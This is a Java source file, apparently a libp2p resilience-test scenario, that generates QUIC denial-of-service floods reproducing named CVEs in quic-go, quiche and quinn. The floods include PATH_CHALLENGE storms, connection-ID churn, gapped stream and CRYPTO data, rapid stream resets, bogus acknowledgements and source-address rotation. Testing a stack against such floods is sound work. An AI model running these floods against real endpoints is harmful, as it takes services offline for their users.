package libp2p.scenarios.flood;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import libp2p.core.environment.Environment;
import libp2p.core.environment.UdpSocket;

/** The kinds of frames that a peer over QUIC can send without end after its handshake. */
enum QuicFrames {
    /** 100 PATH_CHALLENGE frames a packet (quic-go CVE-2023-49295, quiche CVE-2023-6193). */
    CHALLENGES {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            ByteBuffer frames = ByteBuffer.allocate(9 * 100);
            for (int i = 0; i < 100; i++) {
                frames.put((byte) 0x1a).putLong(number << 8 | i);
            }
            raw.send(frames.array());
        }
    },
    /** Connection ids, each of which retires the one before (quic-go CVE-2024-22189, quiche CVE-2024-1410). */
    IDS {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            int sequence = (int) number + 5;
            raw.send(ByteBuffer.allocate(34)
                    .put((byte) 0x18)
                    .putInt(FOUR_BYTES | sequence)
                    .putInt(FOUR_BYTES | sequence)
                    .put((byte) 8)
                    .putLong(number)
                    .putLong(number)
                    .putLong(~number)
                    .array());
        }
    },
    /** Bytes of streams with gaps between them, on as many streams as there may be (quinn CVE-2026-25800). */
    GAPS {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            ByteBuffer frames = ByteBuffer.allocate(11 * 90);
            for (int i = 0; i < 90; i++) {
                long at = number * 90 + i;
                frames.put((byte) 0x0e)
                        .putInt(FOUR_BYTES | (int) (at / MOST_GAPS % 200) * 4)
                        .putInt(FOUR_BYTES | (int) (at % MOST_GAPS) * 2 + 1)
                        .put((byte) 1)
                        .put((byte) 'x');
            }
            raw.send(frames.array());
        }
    },
    /** Every second packet number only, so that acknowledgements have as many ranges as there may be. */
    RANGES {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            raw.skip();
            raw.send(new byte[] {1, 0, 0, 0});
        }
    },
    /** CRYPTO with gaps after the handshake (quiche CVE-2024-1765). */
    CRYPTO {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            ByteBuffer frames = ByteBuffer.allocate(5 * 200);
            for (int i = 0; i < 200; i++) {
                frames.put((byte) 0x06)
                        .putShort((short) (0x4000 | (int) (number * 200 + i) * 2 % 4000 + 1))
                        .put((byte) 1)
                        .put((byte) 0);
            }
            raw.send(frames.array());
        }
    },
    /** Streams that are opened and reset (CVE-2023-44487 and its kin). */
    RESETS {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            raw.openAndReset();
        }
    },
    /** Acknowledgements of packets that were never received (quiche CVE-2025-4820). */
    ACKNOWLEDGEMENTS {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            int largest = (int) (number % 64);
            raw.send(new byte[] {2, (byte) largest, 0, 0, (byte) largest, 0, 0, 0});
        }
    },
    /** Packets that ask for acknowledgements, of which none is acknowledged; each is told at once because of its gap. */
    SILENCE {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            raw.acknowledgeNothing();
            raw.skip();
            raw.send(new byte[] {1, 0, 0, 0});
        }
    },
    /** Packets from one address after the other, so that the connection seems to move. */
    SOURCES {
        @Override
        void send(RawQuic raw, long number) throws IOException {
            throw new UnsupportedOperationException("needs sockets");
        }

        @Override
        void flood(RawQuic raw, Environment environment, InetSocketAddress local, long packets, Runnable did)
                throws IOException {
            List<UdpSocket> sockets = new ArrayList<>();
            try {
                for (int i = 0; i < 64; i++) {
                    sockets.add(environment.network().bindUdp(local));
                }
                for (long number = 0; number < packets; number++) {
                    try {
                        raw.send(new byte[] {1, 0, 0, 0}, sockets.get((int) (number % sockets.size())));
                    } finally {
                        did.run();
                    }
                }
            } finally {
                sockets.forEach(UdpSocket::close);
            }
        }
    };

    /** The mark of a number in four bytes. */
    private static final int FOUR_BYTES = 0x8000_0000;
    /** Of a stream that is not ended for them. */
    private static final int MOST_GAPS = 900;

    /** Sends one packet of the flood. */
    abstract void send(RawQuic raw, long number) throws IOException;

    /**
     * Sends so many of them.
     *
     * @param local from where, with port 0
     * @param did is run for each
     * @throws IOException if the other side has ended the connection
     */
    void flood(RawQuic raw, Environment environment, InetSocketAddress local, long packets, Runnable did)
            throws IOException {
        for (long number = 0; number < packets; number++) {
            try {
                send(raw, number);
            } finally {
                did.run();
            }
        }
    }
}
